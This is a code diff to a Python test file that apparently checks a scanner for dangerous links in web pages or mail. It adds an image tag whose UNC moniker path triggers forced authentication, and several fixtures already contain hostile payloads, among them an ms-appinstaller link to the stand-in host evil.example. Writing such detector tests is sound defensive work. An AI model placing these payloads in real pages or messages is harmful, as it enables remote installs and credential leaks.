@@ -48,6 +48,7 @@ STARTING = {
     "behind other values": page(body=f"<a title='x > y <b>' class=\"<i>\" href='{SEARCH}'>the invoice</a>"),
     "installs": page(body='<a href="ms-appinstaller:?source=https://evil.example/a.msix">x</a>'),
     "opens by its moniker": page(body='<a href="file:///\\\\192.0.2.1\\a\\b.rtf!c">x</a>'),
+    "a picture by its moniker": page(body='<img src="\\\\\\\\192.0.2.1\\\\a\\\\b.rtf!c">'),
     "an image of lines": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><a href="%s"/></svg>'
     % SEARCH.replace("&", "&amp;").encode(),
 }  # fmt: skip
@@ -55,7 +56,7 @@ STARTING = {
 
 @pytest.mark.parametrize("data", STARTING.values(), ids=STARTING.keys())
 def test_page_that_starts_something(data: bytes):
-    assert found(data) == {"executable"}
+    assert found(data) - {"forced-authentication"} == {"executable"}
     assert "executable" in in_mail(data)
 
 
